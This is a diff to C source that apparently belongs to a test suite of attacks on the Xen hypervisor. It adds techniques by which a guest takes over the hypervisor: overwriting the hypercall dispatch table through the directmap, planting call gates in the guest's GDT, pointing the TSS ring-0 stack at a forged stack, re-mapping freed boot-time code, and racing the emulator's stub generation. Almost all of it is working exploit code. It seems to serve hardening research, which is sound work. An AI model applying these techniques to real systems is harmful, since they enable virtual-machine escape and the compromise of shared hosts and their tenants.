@@ -14,6 +14,9 @@
 #define BREAKPOINT 3
 #define CALL_GATE_SELECTOR 0xe7f0 /* the last descriptor of the hypervisor's page of the GDT */
 #define GDT_PAGE 0xe000
+#define GUEST_SELECTOR 0x800 /* free in Linux's page of the GDT */
+#define TSS_RING0 4 /* offset of the stack for ring 0 */
+#define FRAME_SIZE 40 /* RIP, CS, RFLAGS, RSP, SS */
 #define PORT 0x80
 #define EMULATOR_STUB 64 /* where the emulator's half of a CPU's stub begins */
 
@@ -58,6 +61,31 @@ static void table_remap(void)
     poke(entry, physical(page) | (peek(entry) & ~0x000ffffffffff000UL));
     cause(CAUSE_RELOAD_CR3, 0);
     cause(CAUSE_OPS, 0);
+}
+
+/*
+ * In 4.17 hypercalls go by a switch. Its table is the first one whose address the dispatcher takes: of distances to the
+ * places in plain builds, of their addresses in protected ones. The write itself is the next hypercall.
+ */
+static void hypercall_table(void)
+{
+    word at = code("pv_hypercall"), first = data("__2M_rodata_start"), end = code("__2M_init_start"), table = 0, alias, i;
+
+    for ( ; table < first || table >= end; at++ )
+    {
+        word bytes = peek(at);
+
+        if ( at > code("pv_hypercall") + 0x400 )
+            fail("no table in pv_hypercall");
+        if ( (bytes & 0xc7fffb) == 0x058d48 ) /* lea distance(%rip), any register */
+            table = at + 7 + (int)(bytes >> 24);
+    }
+    alias = directmap(table);
+    for ( i = 0; i < 64; i++ )
+        if ( has_gate() )
+            poke(alias + 8 * i, won());
+        else
+            poke4(alias + 4 * i, won() - table);
 }
 
 static void const_ops(void)
@@ -128,15 +156,41 @@ static void idt_directmap(void)
     breakpoint();
 }
 
+static void write_call_gate(word gate, word target)
+{
+    poke(gate, (target & 0xffff) | XEN_CS << 16 | 0xecUL << 40 | (target >> 16 & 0xffff) << 48);
+    poke(gate + 8, target >> 32);
+}
+
 /* A call gate into the hypervisor that any guest program can use. */
 static void gdt_gate(void)
 {
     struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, CALL_GATE_SELECTOR | 3 };
-    word gate = peek(per_cpu("gdt", 0)) + (CALL_GATE_SELECTOR - GDT_PAGE), target = won();
 
-    poke(gate, (target & 0xffff) | 0xe008UL << 16 | 0xecUL << 40 | (target >> 16 & 0xffff) << 48);
-    poke(gate + 8, target >> 32);
+    write_call_gate(peek(per_cpu("gdt", 0)) + (CALL_GATE_SELECTOR - GDT_PAGE), won());
     asm volatile ("lcall *%0" : : "m" (far) : "memory");
+}
+
+/* The guest's own descriptors lie in a page of its own, which the hypervisor has made read-only for it. */
+static void guest_gdt(void)
+{
+    struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, GUEST_SELECTOR | 3 };
+    struct { unsigned short limit; word base; } __attribute__((packed)) gdt;
+    word gate;
+
+    asm volatile ("sgdt %0" : "=m" (gdt));
+    gate = directmap(gdt.base + GUEST_SELECTOR);
+    write_call_gate(gate, won());
+    asm volatile ("lcall *%0" : : "m" (far) : "memory");
+}
+
+/* Exceptions of guests then run on a stack of the attacker's, at whose end stands what their entry loads CR3 from. */
+static void tss_stack(void)
+{
+    word rip = fact(FACT_GUEST_FRAME, 0), stack = forged_stack(rip & ~(STACK_SIZE - 1), "do_int3");
+
+    poke(fact(FACT_TSS, 0) + TSS_RING0, stack + (rip & (STACK_SIZE - 1)) + FRAME_SIZE);
+    breakpoint();
 }
 
 /* SYSCALL enters on the guest's stack. All at once, as this very hypercall comes that way: jmp to within 2 GiB. */
@@ -187,12 +241,12 @@ static void bug_frame(void)
     cause(CAUSE_STATE_DUMP, 0);
 }
 
-/* The hypervisor frees the memory of its boot-time functions; addresses of them remain. */
-static void init_reuse(void)
+/* The hypervisor frees the memory of its boot-time functions. A page of the attacker's comes back in its place. */
+static void fill_init(word stale)
 {
-    word stale = code("__2M_init_start"), page = heap_pages(0), root = fact(FACT_CR3, 0), entry = entry_at(root, stale, 21);
+    word page = heap_pages(0), root = fact(FACT_CR3, 0), entry = entry_at(root, stale, 21);
 
-    write_jump(page, won());
+    write_jump(page + (stale & (PAGE - 1)), won());
     if ( (peek(entry) & (PRESENT | LARGE)) == PRESENT )
         poke(entry_at(root, stale, 12), physical(page) | ACCESSED_DIRTY | PRESENT);
     else
@@ -202,19 +256,34 @@ static void init_reuse(void)
         poke(table, physical(page) | ACCESSED_DIRTY | PRESENT);
         poke(entry, physical(table) | ACCESSED_DIRTY | WRITABLE | PRESENT);
     }
-    poke(data("attack_call"), stale);
+}
+
+static void init_reuse(void)
+{
+    fill_init(code("__2M_init_start"));
+    poke(data("attack_call"), code("__2M_init_start"));
     cause(CAUSE_CALL, 0);
 }
 
-/* The stub of the next port I/O is changed while it is being made, wherever that is done. */
+/* What was written down for such a function is still known. Where it is an index, nothing needs to lie there. */
+static void init_pointer(void)
+{
+    if ( !has_gate() )
+        fill_init(code("attack_init_call"));
+    poke(data("attack_call"), pointer(POINTER_INIT));
+    cause(CAUSE_CALL, 0);
+}
+
+/*
+ * The stub of the next port I/O is changed while it is being made, wherever that is done: a jump to within 2 GiB, in one
+ * word, so that no half of it is seen.
+ */
 static void stub_content_race(void)
 {
-    word stub = peek(per_cpu("stubs", 0)), draft = directmap_of(peek(per_cpu("stubs", 0) + 8) << 12);
-    word at = draft + (stub & 4095) + EMULATOR_STUB, words[2];
+    word stub = peek(per_cpu("stubs", 0)) + EMULATOR_STUB, draft = directmap_of(peek(per_cpu("stubs", 0) + 8) << 12);
+    word jump = 0xe9 | ((won() - (stub + 5)) & 0xffffffff) << 8;
 
-    jump_words(won(), words);
-    hammer(0, at, words[0], words[0]);
-    hammer(1, at + 8, words[1], words[1]);
+    hammer(0, draft + (stub & (PAGE - 1)), jump, jump);
     hold_other_cpu(CAUSE_HAMMER);
     port_io(1000);
     release_other_cpu();
@@ -225,6 +294,7 @@ const struct attack memory_attacks[] = {
     { "table-fresh-mapping", "a slot of a call's table is overwritten through a fresh mapping of its frame", table_fresh_mapping },
     { "table-entry", "the page of a call's table is made writable by its page-table entry", table_entry },
     { "table-remap", "the page-table entry of a call's table leads to a changed copy", table_remap },
+    { "hypercall-table", "the table by which hypercalls are dispatched is overwritten through the directmap", hypercall_table },
     { "const-ops", "a constant operations table is overwritten through the directmap", const_ops },
     { "code-directmap", "code is overwritten through the directmap", code_directmap },
     { "code-fresh-mapping", "code is overwritten through a fresh mapping of its frame", code_fresh_mapping },
@@ -235,11 +305,14 @@ const struct attack memory_attacks[] = {
     { "idt-gate", "the gate of a guest's breakpoints leads elsewhere", idt_gate },
     { "idt-directmap", "the gate of a guest's breakpoints is overwritten through the directmap", idt_directmap },
     { "gdt-gate", "the GDT gets a call gate into the hypervisor for every guest program", gdt_gate },
+    { "guest-gdt", "a PV guest's own GDT gets a call gate into the hypervisor", guest_gdt },
+    { "tss-stack", "the stack of the TSS becomes one of the attacker's, whose end names forged page tables", tss_stack },
     { "syscall-stub", "the code that SYSCALL enters is overwritten through the directmap", syscall_stub },
     { "stub-address", "the per-CPU address of generated code becomes another one", stub_address },
     { "stub-content-race", "generated code is changed by the other CPU while it is being made", stub_content_race },
     { "exception-table", "the exception table sends a caught fault elsewhere", exception_table },
     { "bug-frame", "a bug frame, which says where a trap instruction leads, is overwritten", bug_frame },
     { "init-reuse", "freed memory of boot-time functions is mapped again, executable, and called by a stale address", init_reuse },
+    { "init-pointer", "a freed function of boot time is called by what the program wrote down for it", init_pointer },
     { 0 }
 };
